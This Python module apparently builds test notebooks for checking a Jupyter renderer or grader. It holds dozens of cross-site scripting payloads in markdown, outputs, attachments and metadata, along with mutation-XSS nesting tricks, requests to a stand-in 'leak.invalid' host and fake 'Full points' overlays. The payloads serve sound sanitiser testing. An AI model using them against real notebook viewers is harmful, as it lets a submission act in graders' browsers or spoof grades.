"""What a student could put into a notebook to act in the browser of whoever reads it.

Each fragment adds its name to the page's list `ran` where it runs, or asks for `LEAK`.
"""

from typing import Any
from uuid import uuid4

from nbformat import from_dict

LEAK = "http://leak.invalid/"


def js(name: str) -> str:
    """The script of a fragment: without quotes, spaces and =, as an attribute's bare value is."""
    return f"top.ran.push(/{name}/)"


MARKDOWN = {
    "script": "<script>JS</script>",
    "script_in_a_line": "text <script>JS</script> text",
    "script_from_elsewhere": "<script src=LEAK></script>",
    "image_error": "<img src=x onerror=JS>",
    "body_load": "<body onload=JS>",
    "svg_load": "<svg onload=JS></svg>",
    "svg_animation": '<svg><animate onbegin=JS attributeName="x" dur="1s"/></svg>',
    "svg_set_link": '<svg><a><set attributeName="href" to="javascript:JS"/><text>x</text></a>',
    "svg_use": '<svg><use href="data:image/svg+xml,<svg id=x onload=JS>#x"/></svg>',
    "svg_foreign": "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "details_toggle": "<details open ontoggle=JS>x</details>",
    "input_focus": "<input autofocus onfocus=JS>",
    "link_markdown": "[x](javascript:JS)",
    "link_split": "[x](java&#x09;script:JS)",
    "link_html": '<a href=" &#1;javascript:JS">x</a>',
    "link_upper": '<a href="JaVaScRiPt:JS">x</a>',
    "link_angle": "<javascript:JS>",
    "link_reference": "[x][y]\n\n[y]: javascript:JS",
    "link_files": '<a href="files/javascript:JS">x</a>',
    "link_files_markdown": "[x](/files/javascript:JS)",
    "link_data": '<a href="data:text/html,<script>JS</script>">x</a>',
    "link_vbscript": "[x](vbscript:JS)",
    "iframe_document": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe_address": '<iframe src="javascript:JS"></iframe>',
    "object": '<object data="data:text/html,<script>JS</script>"></object>',
    "embed": '<embed src="data:image/svg+xml,<svg onload=JS>">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=LEAK">',
    "base": "<base href=LEAK>",
    "style_import": "<style>@import 'LEAK'; body { display: none }</style>",
    "style_sheet": '<link rel="stylesheet" href="LEAK">',
    "style_background": '<p style="background: url(LEAK)">x</p>',
    "style_escaped": r'<p style="background: \75 rl(LEAK)">x</p>',
    "style_expression": '<p style="width: expression(JS)">x</p>',
    "style_fixed": '<div style="position: fixed; top: 0; z-index: 9999">Full points</div>',
    "style_class": '<div class="navbar-fixed-top modal full-credit nbgrader_cell">x</div>',
    "form": '<form action="LEAK"><button formaction="javascript:JS">x</button></form>',
    "image_elsewhere": "<img src=LEAK srcset=LEAK> ![x](LEAK)",
    "video": "<video poster=LEAK><source src=LEAK onerror=JS></video>",
    "svg_fill": '<svg><rect fill="url(LEAK)" style="fill: url(LEAK)"/><image href="LEAK"/></svg>',
    "data_attribute": '<a data-link="x" data-toggle="tooltip" data-html="true">x</a>',
    "clobber": '<a id="submission_id"></a><img name="base_url">',
    "nested_noscript": '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
    "nested_template": '<template><p title="</template><img src=x onerror=JS>"></template>',
    "nested_textarea": '<textarea><p title="</textarea><img src=x onerror=JS>"></textarea>',
    "nested_title": '<svg><title><p title="</title><img src=x onerror=JS>"></title></svg>',
    "nested_svg_style": '<svg></p><style><a id="</style><img src=x onerror=JS>"></a></style></svg>',
    "nested_math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=JS&gt;">'
    ),
    "nested_annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=JS></style>'
        "</annotation-xml></math>"
    ),
    "nested_form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "nested_xmp": '<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>',
    "comment": "<!--><img src=x onerror=JS>-->",
    "cdata": "<svg><![CDATA[<img src=x onerror=JS>]]></svg>",
    "unclosed": '</div></div></main><p title="<img src=x onerror=JS',
    "tex_link": r"$\href{javascript:JS}{x}$",
    "tex_text": r"$\text{<img src=x onerror=JS>}$",
    "tex_entity": r"$$\text{&lt;img src=x onerror=JS&gt;}$$",
    "tex_class": r"""$\class{x" onmouseover="JS}{y} \style{background:url(LEAK)}{z}$""",
    "tex_markup": "$<img src=x onerror=JS>$",
    "tex_in_attribute": r"""![$\text{" onerror=JS x="}$](x "$\text{" onload=JS x="}$")""",
    "tex_environment": "\\begin{align}<script>JS</script>\\end{align}",
    "tex_macro": r"$\newcommand{\a}{\a\a}\a <img src=x onerror=JS>$",
    "code_language": "```<img/src=x/onerror=JS>\nx\n```",
    "mermaid": "```mermaid\n<img src=x onerror=JS>\n```",
    "attachment_missing": "![x](attachment:nowhere.png)",
    "template_language": "{{ ''.__class__ }}{% raw %}<script>JS</script>",
}

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
_IMAGE = "<img src=x onerror=JS>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><script>JS</script></svg>'
DATA: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "html": ({"text/html": f"<script>JS</script>{_IMAGE}"}, {}),
    "html_isolated": ({"text/html": "<script>JS</script>"}, {"text/html": {"isolated": True}}),
    "html_lines": ({"text/html": ["<scr", "ipt>JS</script>"]}, {}),
    "javascript": ({"application/javascript": "JS"}, {}),
    "svg": ({"image/svg+xml": _SVG}, {}),
    "svg_quote": ({"image/svg+xml": f'"><script>JS</script>{_SVG}'}, {}),
    "png_width": ({"image/png": PIXEL}, {"image/png": {"width": "1 onload=JS"}}),
    "png_height": ({"image/png": PIXEL}, {"height": "1><script>JS</script>"}),
    "png_alt": ({"image/png": PIXEL}, {"image/png": {"alt": '"><script>JS</script>'}}),
    "png_file": ({"image/png": PIXEL}, {"filenames": {"image/png": "LEAK"}}),
    "png_data": ({"image/png": 'x" onerror="JS'}, {}),
    "jpeg_data": ({"image/jpeg": f"AA=={_IMAGE}"}, {}),
    "latex": ({"text/latex": r"$\href{javascript:JS}{x}$ <script>JS</script>"}, {}),
    "latex_text": ({"text/latex": r"\[\text{<img src=x onerror=JS>}\]"}, {}),
    "markdown": ({"text/markdown": f"[x](javascript:JS) {_IMAGE}"}, {}),
    "mermaid_output": ({"text/vnd.mermaid": _IMAGE}, {}),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>"}}, {}),
    "kind": ({"<img/src=x/onerror=JS>": "x"}, {}),
    "plain": ({"text/plain": f"</pre><script>JS</script>{_IMAGE}"}, {}),
}


def cells() -> dict[str, Any]:
    """A cell for each fragment, by name."""
    return {**_markdown(), **_data(), **_attached(), **_streams(), **_names(), **_others()}


def _markdown() -> dict[str, Any]:
    return {name: _cell("markdown", _named(text, name)) for name, text in MARKDOWN.items()}


def _data() -> dict[str, Any]:
    made = {}
    for name, (data, metadata) in DATA.items():
        output = {"output_type": "display_data", "data": data, "metadata": metadata}
        made[name] = _cell("code", "show()", outputs=[_named(output, name)])
    return made


def broken() -> list[Any]:
    """Cells that are none, as nbformat sees it; nbconvert refuses a notebook with one of them."""
    script = "<script>go()</script>"
    outputs = [
        {"output_type": "stream", "name": script, "text": {script: script}},
        {"output_type": "error", "ename": 7, "traceback": [7, script]},
        {"output_type": script, "data": {"text/html": {script: script}, "text/plain": 7}},
        {"output_type": "display_data", "data": script},
    ]
    return [
        _cell("code", "x", id=f'x" onclick="go()">{script}'),
        _cell("code", "x", execution_count=script),
        _cell("code", "x", outputs=outputs),
        _cell("markdown", "x", attachments=[script]),
        _cell(script, "x"),
        from_dict({"cell_type": "code", "source": 7}),
    ]


def metadata() -> dict[str, Any]:
    """A notebook's own metadata."""
    closing = _named('x"></title></script><script>JS</script>', "metadata")
    return {
        "title": closing,
        "language_info": {"name": closing, "pygments_lexer": closing, "version": closing},
        "kernelspec": {"name": closing, "display_name": closing, "language": closing},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {closing: {"state": closing}},
                "version_major": 2,
                "version_minor": 0,
            }
        },
        "convdims": {"notes": [closing]},
    }


def _attached() -> dict[str, Any]:
    attached = {
        "attachment_name": ({"a\"onerror='JS'.png": {"image/png": PIXEL}}, "a%22onerror='JS'.png"),
        "attachment_kind": ({"a.png": {'image/png;" onerror="JS': PIXEL}}, "a.png"),
        "attachment_data": ({"a.png": {"image/png": 'x" onerror="JS'}}, "a.png"),
        "attachment_page": ({"a.png": {"text/html": "PHNjcmlwdD4="}}, "a.png"),
    }
    made = {}
    for name, (attachments, url) in attached.items():
        source = _named(f"![x](attachment:{url})", name)
        made[name] = _cell("markdown", source, attachments=_named(attachments, name))
    return made


def _streams() -> dict[str, Any]:
    text = "\x1b[31m<img src=x onerror=JS>\x1b[0m</pre><script>JS</script>"
    made = {}
    for name, stream in {
        "stream": "stdout",
        "stream_error": "stderr",
        "stream_name": "<b>",
    }.items():
        output = {"output_type": "stream", "name": stream, "text": text}
        made[name] = _cell("code", "print()", outputs=[_named(output, name)])
    return made


def _names() -> dict[str, Any]:
    def closing(name: str) -> str:
        return _named('x" onclick="JS"><script>JS</script>', name)

    tagged = _cell("code", "x", metadata={"tags": [closing("tags")]})
    magic = _cell("code", "x", metadata={"magics_language": closing("magic")})
    about = {"grade": True, "grade_id": closing("grade_id"), "points": "1", "schema_version": 3}
    return {
        "tags": tagged,
        "magic": magic,
        "grade_id": _cell("code", "x", metadata={"nbgrader": about}),
        "source": _cell("code", _named("</pre><script>JS</script>", "source")),
    }


def _others() -> dict[str, Any]:
    text = _named("</pre><script>JS</script>", "error")
    said = {"ename": text, "evalue": text, "traceback": [f"\x1b[31m{text}", text]}
    error = {"output_type": "error", **said}
    return {
        "error": _cell("code", "raise", outputs=[error]),
        "raw": _cell("raw", _named("<script>JS</script>", "raw")),
        "raw_html": _cell(
            "raw",
            _named("<img src=x onerror=JS>", "raw_html"),
            metadata={"raw_mimetype": "text/html"},
        ),
    }


def _cell(kind: str, source: str, **about: Any) -> Any:
    """A cell that is not looked at by nbformat."""
    of_code = {"outputs": [], "execution_count": None} if kind == "code" else {}
    cell = {
        "cell_type": kind,
        "id": uuid4().hex,
        "metadata": {},
        "source": source,
        **of_code,
        **about,
    }
    return from_dict(cell)


def _named(found: Any, name: str) -> Any:
    """The fragment with its script and its address."""
    if isinstance(found, str):
        return found.replace("JS", js(name)).replace("LEAK", LEAK + name)
    if isinstance(found, list):
        return [_named(part, name) for part in found]
    if isinstance(found, dict):
        return {_named(key, name): _named(value, name) for key, value in found.items()}
    return found
